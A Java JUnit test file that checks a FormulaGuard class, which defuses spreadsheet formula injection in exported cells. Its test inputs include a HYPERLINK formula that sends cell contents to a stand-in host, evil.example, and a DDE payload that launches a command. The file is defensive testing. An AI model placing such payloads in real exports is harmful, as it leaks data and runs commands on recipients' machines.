package io.needmap.privacy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Text from the inputs never becomes a spreadsheet formula (OWASP, "CSV Injection"). */
class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+1", "+49 30 1234567",
        "+12", "-1+2", "-2.5E3", "-", "- VPN is slow", "--", "@SUM(1,1)", "@anna", "-12abc", "-1.5.3"})
    void textStartingWithAFormulaCharacterGetsAQuote(String cell) {
        assertEquals("'" + cell, FormulaGuard.neutralise(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {" =1+1", "  @SUM(A1)", "\n=1+1", "\u00A0=1+1", " -12"})
    void leadingWhiteSpaceDoesNotHideAFormula(String cell) {
        assertEquals("'" + cell, FormulaGuard.neutralise(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\tplain", "\rplain", "\u0000plain", "\t=1+1"})
    void tabCarriageReturnAndNullAtTheStartGetAQuote(String cell) {
        assertEquals("'" + cell, FormulaGuard.neutralise(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-12", "-1.5", "-0", "-.5", "-5.", "-1234567.890"})
    void plainNegativeNumbersAreDataAndStay(String cell) {
        assertEquals(cell, FormulaGuard.neutralise(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"VPN is slow", "a=b", "1+1", "12", "1.5", "'=1+1", "anna@example.com", "[email]", "h:3f9a0c1b2d4e5f60",
        " ", "x - y", "Q3 -12%"})
    void otherTextStays(String cell) {
        assertEquals(cell, FormulaGuard.neutralise(cell));
    }

    @Test
    void nullAndEmptyStay() {
        assertNull(FormulaGuard.neutralise(null));
        assertEquals("", FormulaGuard.neutralise(""));
    }

    @Test
    void guardingTwiceChangesNothingMore() {
        String once = FormulaGuard.neutralise("=1+1");
        assertEquals(once, FormulaGuard.neutralise(once));
    }
}
